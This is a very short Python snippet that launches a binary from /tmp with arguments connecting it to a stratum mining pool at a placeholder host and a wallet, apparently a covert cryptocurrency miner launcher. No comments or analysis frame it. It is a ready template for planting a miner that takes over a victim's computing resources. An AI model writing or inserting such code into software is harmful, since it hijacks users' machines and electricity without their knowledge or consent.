import subprocess

POOL = "stratum+tcp://pool.invalid:3333"
subprocess.Popen(["/tmp/m", "-o", POOL, "-u", "wallet"])
